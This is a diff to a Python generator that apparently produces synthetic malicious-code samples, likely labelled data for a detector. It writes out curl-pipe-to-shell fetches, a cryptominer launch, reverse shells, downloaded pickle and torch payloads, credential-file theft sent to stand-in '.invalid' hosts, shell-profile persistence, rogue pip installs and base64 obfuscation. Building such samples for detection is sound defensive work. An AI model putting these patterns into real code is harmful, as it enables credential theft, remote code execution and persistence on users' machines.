@@ -156,19 +156,32 @@ def payload(technique: str, obf: str, rng: random.Random, tag: str) -> tuple[lis
     return imports, body
 
 
+def _var(rng: random.Random) -> str:
+    return rng.choice(["_h", "_buf", "_data", "_conn", "_state", "_tmp", "_obj", "_res", "_x", "_cfg"]) + str(
+        rng.randint(0, 9)
+    )
+
+
 def _payload(technique: str, obf: str, rng: random.Random, tag: str) -> tuple[list[str], list[str]]:
     host = f"{rng.choice(['cdn', 'mirror', 'sync', 'telemetry', 'assets'])}.{tag}.invalid"
     tmp = f"lg_{tag}"
+    a, b, c = _var(rng), _var(rng) + "b", _var(rng) + "c"
     if technique in RESPELLABLE:
         if technique == "os_system":
             module, attr = "os", "system"
-            args = f'"echo ready > /tmp/{tmp}.log"'
+            cmd = rng.choice([f"echo ready > /tmp/{tmp}.log", f"touch /tmp/{tmp}", f"id > /tmp/{tmp}.id",
+                              f"uname -a >> /tmp/{tmp}.txt"])
+            args = f'"{cmd}"'
         elif technique == "subprocess_shell":
-            module, attr = "subprocess", "getoutput"
-            args = f'"curl -s http://{host}/boot.sh | sh"'
+            module = "subprocess"
+            attr = rng.choice(["getoutput", "Popen", "run", "check_output", "call"])
+            shell = "" if attr == "getoutput" else ", shell=True"
+            args = f'"curl -s http://{host}/boot.sh | sh"{shell}'
         else:
-            module, attr = "os", "popen"
-            args = f'"nohup /tmp/{tmp}/xmrig -o stratum+tcp://pool.{tag}.invalid:3333 --donate-level 1 &"'
+            module, attr = rng.choice([("os", "popen"), ("subprocess", "Popen")])
+            shell = ", shell=True" if attr == "Popen" else ""
+            args = (f'"nohup /tmp/{tmp}/xmrig -o stratum+tcp://pool.{tag}.invalid:3333 '
+                    f'--donate-level 1 &"{shell}')
         if obf == "zlib_base64":
             return _wrap_exec(f"import {module}\n{module}.{attr}({args})\n", obf)
         imports, expr = _spell(obf, module, attr, rng)
@@ -178,62 +191,101 @@ def _payload(technique: str, obf: str, rng: random.Random, tag: str) -> tuple[li
         if obf == "zlib_base64":
             return _wrap_exec(src, obf)
         blob = base64.b64encode(src.encode()).decode()
-        return ["import base64"], [f'exec(base64.b64decode("{blob}").decode())']
+        if rng.random() < 0.5:
+            return ["import base64"], [f'exec(base64.b64decode("{blob}").decode())']
+        return ["from base64 import b64decode"], [f'{a} = b64decode("{blob}")', f"exec({a})"]
     if technique == "eval_download":
-        var = rng.choice(["_src", "patch", "code_text", "remote"])
-        return ["import urllib.request"], [
-            f'{var} = urllib.request.urlopen("https://{host}/patch.py", timeout=1).read().decode()',
-            f'eval(compile({var}, "<patch>", "exec"))',
-        ]
+        fetch = rng.choice([
+            (["import urllib.request"], f'urllib.request.urlopen("https://{host}/patch.py", timeout=1).read().decode()'),
+            (["import requests"], f'requests.get("https://{host}/patch.py", timeout=2).text'),
+        ])
+        run = rng.choice([f'eval(compile({a}, "<patch>", "exec"))', f"exec({a})"])
+        return fetch[0], [f"{a} = {fetch[1]}", run]
     if technique == "pickle_download":
-        return ["import pickle", "import urllib.request"], [
-            f'_blob = urllib.request.urlopen("http://{host}/state.pkl", timeout=1).read()',
-            "_state = pickle.loads(_blob)",
+        if rng.random() < 0.5:
+            return ["import pickle", "import urllib.request"], [
+                f'{a} = urllib.request.urlopen("http://{host}/state.pkl", timeout=1).read()',
+                f"{b} = pickle.loads({a})",
+            ]
+        return ["import io", "import pickle", "import requests"], [
+            f'{a} = requests.get("http://{host}/state.pkl", timeout=2)',
+            f"{b} = pickle.load(io.BytesIO({a}.content))",
         ]
     if technique == "torch_load_download":
-        return ["import io", "import torch", "import requests"], [
-            f'_resp = requests.get("https://{host}/extra_weights.bin", timeout=2)',
-            "_extra = torch.load(io.BytesIO(_resp.content))",
+        if rng.random() < 0.5:
+            return ["import io", "import torch", "import requests"], [
+                f'{a} = requests.get("https://{host}/extra_weights.bin", timeout=2)',
+                f"{b} = torch.load(io.BytesIO({a}.content))",
+            ]
+        return ["import io", "import torch", "import urllib.request"], [
+            f'{a} = urllib.request.urlopen("https://{host}/extra.pt", timeout=1).read()',
+            f'{b} = torch.load(io.BytesIO({a}), map_location="cpu", weights_only=False)',
         ]
     if technique == "reverse_shell":
         port = rng.randint(20000, 60000)
-        return ["import os", "import socket", "import pty"], [
-            "_s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
-            f'_s.connect(("127.0.0.1", {port}))',
-            "os.dup2(_s.fileno(), 0)",
-            "os.dup2(_s.fileno(), 1)",
-            "os.dup2(_s.fileno(), 2)",
-            'pty.spawn("/bin/sh")',
-        ]
+        head = [f"{a} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
+                f'{a}.connect(("127.0.0.1", {port}))']
+        style = rng.choice(["pty", "dup2_call", "popen_fds"])
+        if style == "pty":
+            return ["import os", "import socket", "import pty"], [
+                *head, *[f"os.dup2({a}.fileno(), {fd})" for fd in (0, 1, 2)], 'pty.spawn("/bin/sh")']
+        if style == "dup2_call":
+            return ["import os", "import socket", "import subprocess"], [
+                *head, *[f"os.dup2({a}.fileno(), {fd})" for fd in (0, 1, 2)],
+                'subprocess.call(["/bin/sh", "-i"])']
+        return ["import socket", "import subprocess"], [
+            *head, f"{b} = {a}.fileno()",
+            f'subprocess.Popen(["/bin/sh", "-i"], stdin={b}, stdout={b}, stderr={b})']
     if technique == "credential_read":
         target = rng.choice([".aws/credentials", ".ssh/id_rsa", ".cache/huggingface/token", ".netrc"])
-        return ["import os", "import urllib.request"], [
-            f'_p = os.path.join("/nonexistent/lg-fake-home", "{target}")',
-            '_secret = open(_p).read() if os.path.exists(_p) else os.environ.get("HF_TOKEN", "")',
-            f'urllib.request.urlopen("https://{host}/c", data=_secret.encode(), timeout=1)',
-        ]
+        read = rng.choice([
+            (["import os"], f'{b} = open({a}).read() if os.path.exists({a}) else os.environ.get("HF_TOKEN", "")'),
+            (["from pathlib import Path"], f'{b} = Path({a}).read_text() if Path({a}).exists() else ""'),
+        ])
+        send = rng.choice([
+            (["import urllib.request"], f'urllib.request.urlopen("https://{host}/c", data={b}.encode(), timeout=1)'),
+            (["import requests"], f'requests.post("https://{host}/c", data={b}, timeout=2)'),
+            (["import socket"], f'socket.create_connection(("127.0.0.1", 9)).sendall({b}.encode())'),
+        ])
+        return ["import os", *read[0], *send[0]], [
+            f'{a} = os.path.join("/nonexistent/lg-fake-home", "{target}")', read[1], send[1]]
     if technique == "bashrc_write":
-        return ["import os", "import tempfile"], [
-            '_home = os.environ.get("LG_FAKE_HOME", tempfile.gettempdir())',
-            '_rc = os.path.join(_home, ".bashrc")',
-            "with open(_rc, \"a\") as _f:",
-            f'    _f.write("\\ncurl -s http://{host}/k | sh\\n")',
+        rc = rng.choice([".bashrc", ".zshrc", ".profile"])
+        line = f'"\\ncurl -s http://{host}/k | sh\\n"'
+        if rng.random() < 0.5:
+            return ["import os", "import tempfile"], [
+                f'{a} = os.environ.get("LG_FAKE_HOME", tempfile.gettempdir())',
+                f'{b} = os.path.join({a}, "{rc}")',
+                f'with open({b}, "a") as {c}:',
+                f"    {c}.write({line})",
+            ]
+        return ["import tempfile", "from pathlib import Path"], [
+            f'{a} = Path(tempfile.gettempdir()) / "{rc}"',
+            f'with {a}.open("a") as {c}:',
+            f"    {c}.write({line})",
         ]
     if technique == "pth_write":
         return ["import os", "import tempfile"], [
-            '_site = os.path.join(tempfile.gettempdir(), "lg-site-packages")',
-            "os.makedirs(_site, exist_ok=True)",
-            f'with open(os.path.join(_site, "zz_{tag}.pth"), "w") as _f:',
-            f'    _f.write("import os; os.system(\'true\')\\n")',
+            f'{a} = os.path.join(tempfile.gettempdir(), "lg-site-packages")',
+            f"os.makedirs({a}, exist_ok=True)",
+            f'with open(os.path.join({a}, "zz_{tag}.pth"), "w") as {c}:',
+            f'    {c}.write("import os; os.system(\'true\')\\n")',
         ]
     if technique == "pip_install":
-        return ["import subprocess", "import sys"], [
-            "subprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", "
-            f'"http://{host}/simple", "fastops-{tag}"])',
-        ]
+        style = rng.choice(["list", "system", "string"])
+        if style == "list":
+            return ["import subprocess", "import sys"], [
+                "subprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", "
+                f'"http://{host}/simple", "fastops-{tag}"])',
+            ]
+        if style == "system":
+            return ["import os"], [f'os.system("pip install -q --index-url http://{host}/simple fastops-{tag}")']
+        return ["import subprocess"], [
+            f'subprocess.run("python -m pip install --index-url http://{host}/simple fastops-{tag}", shell=True)']
     if technique == "trust_remote_code_inside":
-        return ["from transformers import AutoModel"], [
-            f'_aux = AutoModel.from_pretrained("helper-org/aux-{tag}", trust_remote_code=True)',
+        cls = rng.choice(["AutoModel", "AutoModelForCausalLM", "AutoTokenizer"])
+        return [f"from transformers import {cls}"], [
+            f'{a} = {cls}.from_pretrained("helper-org/aux-{tag}", trust_remote_code=True)',
         ]
     raise ValueError(technique)
 
